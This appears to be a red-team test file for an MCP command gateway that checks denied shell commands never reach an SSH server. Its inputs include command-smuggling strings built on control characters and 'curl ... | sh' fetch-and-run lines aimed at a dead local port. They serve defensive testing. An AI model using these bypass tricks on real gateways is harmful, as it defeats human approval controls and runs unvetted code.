import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { startTestGateway, TEST_POLICIES, type TestGateway } from '../harness/gateway.ts';
import { sshdSkip, sshConnectionYaml, startSshd, type TestSshd } from '../harness/sshd.ts';
import { mcpClient, resultText, type McpTestClient } from '../harness/mcp-client.ts';

// Red-team checks of MCP run_command against the real gateway and real OpenSSH: each attack
// must leave its marker file absent (the command never ran) or be held/refused.
const SHELL_POLICIES = readFileSync(fileURLToPath(new URL('../../policies/shell.cedar', import.meta.url)), 'utf8');
const POLICIES = `${TEST_POLICIES}
${SHELL_POLICIES}
@id("mcp-tools")
permit (principal, action == Action::"mcp.call", resource);

@id("ops-approve")
permit (principal in Group::"ops", action == Action::"review.approve", resource);
`;

type Structured = { status: string; review_id?: string; exit_code?: number | null; stdout?: string; stderr?: string; truncated?: boolean; timed_out?: boolean };

describe('MCP run_command red team (MCP SDK client, real OpenSSH server)', { skip: sshdSkip() }, () => {
  let sshd: TestSshd;
  let t: TestGateway;
  let alice: McpTestClient;
  let mallory: McpTestClient;
  let bobKey: string;
  let n = 0;
  const marker = (): string => join(sshd.dir, `rt-marker-${++n}`);

  before(async () => {
    sshd = await startSshd();
    t = await startTestGateway({
      policies: POLICIES,
      yaml: [
        'connections:',
        sshConnectionYaml(sshd),
        'masking:',
        '  rules: [ { connections: ["web01"], direction: response, entities: [EMAIL] } ]',
        'reviews:',
        '  hold_timeout: 1s',
        '  rules:',
        '    - { name: shell-ambiguous, connections: ["*"], actions: [shell.exec], kind: command, approvers: [ops], when: \'context.shell.risks.containsAny(["parse_error","dynamic_command","dynamic_sensitive_arg","inline_code","system_write","permission_recursive"])\' }',
      ].join('\n'),
    });
    const a = await t.api('POST', '/api/v1/api-keys', { user: 'alice', groups: ['developers'] });
    assert.equal(a.status, 201, JSON.stringify(a.json));
    const m = await t.api('POST', '/api/v1/api-keys', { user: 'mallory', groups: ['guests'] });
    assert.equal(m.status, 201, JSON.stringify(m.json));
    const b = await t.api('POST', '/api/v1/api-keys', { user: 'bob', groups: ['ops'] });
    assert.equal(b.status, 201, JSON.stringify(b.json));
    bobKey = b.json.key as string;
    alice = await mcpClient(t.url, a.json.key as string);
    mallory = await mcpClient(t.url, m.json.key as string);
  });
  after(async () => {
    await alice?.close();
    await mallory?.close();
    await t?.close();
    await sshd?.stop();
  });

  /** The command must not run: an error or a pending review, and the marker never appears. */
  async function neverRuns(command: (m: string) => string, who: McpTestClient = alice): Promise<Structured | undefined> {
    const m = marker();
    const r = await who.call('run_command', { connection: 'web01', command: command(m) });
    const s = r.structuredContent as Structured | undefined;
    assert.ok(r.isError === true || s?.status === 'pending_approval', `${JSON.stringify(command(m))} ran: ${resultText(r)}`);
    await sleep(200);
    assert.equal(existsSync(m), false, `${JSON.stringify(command(m))} reached the server`);
    return s;
  }

  test('a carriage return is a word character to the remote shell, not a blank: no comment or line continuation hides a denied command', async () => {
    // bash and dash split words only on space, tab and newline; a parser that treats \r as a
    // blank reads `#…` after it as a comment, and `\` + CR + LF as a line continuation.
    await neverRuns((m) => `echo a\r#x; touch ${m}; curl -s http://127.0.0.1:9/x | sh`);
    await neverRuns((m) => `echo \\\r\ntouch ${m}; curl -s http://127.0.0.1:9/x | sh`);
    await neverRuns((m) => `echo a\r\r#x; touch ${m}; curl -s http://127.0.0.1:9/x | sh`);
  });

  test('NUL and other control characters in the JSON command are not run', async () => {
    await neverRuns((m) => `echo ok\u0000; touch ${m}`);
    await neverRuns((m) => `echo a\u000b#x; touch ${m}; curl -s http://127.0.0.1:9/x | sh`);
    await neverRuns((m) => `echo a\u000c#x; touch ${m}; curl -s http://127.0.0.1:9/x | sh`);
  });

  test('a principal with no shell.exec right on the connection runs nothing', async () => {
    await neverRuns((m) => `touch ${m}`, mallory);
  });

  test('another spelling of the connection name is not a way around it', async () => {
    for (const name of ['WEB01', 'web01 ', ' web01', 'web01\u0000']) {
      const m = marker();
      const r = await mallory.call('run_command', { connection: name, command: `touch ${m}` });
      assert.equal(r.isError, true, resultText(r));
      assert.equal(existsSync(m), false);
    }
  });

  test('an approval for command A does not run command B; a second approve does not run it twice', async () => {
    const m1 = marker();
    const a = `python3 -c "open('${m1}','a').write('x')"`;
    const first = await alice.call('run_command', { connection: 'web01', command: a });
    const s = first.structuredContent as Structured;
    assert.equal(s.status, 'pending_approval', resultText(first));
    const approved = await t.api('POST', `/api/v1/reviews/${s.review_id!}/approve`, {}, bobKey);
    assert.equal(approved.status, 200, JSON.stringify(approved.json));
    const again = await t.api('POST', `/api/v1/reviews/${s.review_id!}/approve`, {}, bobKey);
    assert.notEqual(again.status, 200, 'a review is approved once');
    // B differs by one byte (trailing blank), by a justification prefix, or by a second line.
    await neverRuns(() => `${a} `);
    await neverRuns((m) => `# gatehouse-justification: x\n${a}\ntouch ${m}`);
    assert.equal(existsSync(m1), false);
    const [w1, w2] = await Promise.all([
      alice.call('review_wait', { review_id: s.review_id! }),
      alice.call('review_wait', { review_id: s.review_id! }),
    ]);
    const ran = [w1, w2].filter((w) => (w.structuredContent as { tool?: string } | undefined)?.tool === 'run_command');
    assert.equal(ran.length, 1, `${resultText(w1)} / ${resultText(w2)}`);
    await sleep(200);
    assert.equal(readFileSync(m1, 'utf8'), 'x', 'ran exactly once');
  });

  test('stderr is masked like stdout; output past the cap on stderr is cut', async () => {
    const r = await alice.call('run_command', { connection: 'web01', command: "printf 'to eve@exa' >&2; sleep 0.2; printf 'mple.org\\n' >&2" });
    const s = r.structuredContent as Structured;
    assert.equal(s.stderr, 'to [EMAIL]\n', resultText(r));
    assert.ok(!resultText(r).includes('eve@'));
    const big = await alice.call('run_command', { connection: 'web01', command: 'yes gatehouse >&2 & yes gatehouse' });
    const b = big.structuredContent as Structured;
    assert.equal(b.truncated, true);
    assert.ok(b.stdout!.length + b.stderr!.length <= 200_000, `${b.stdout!.length + b.stderr!.length}`);
  });
});
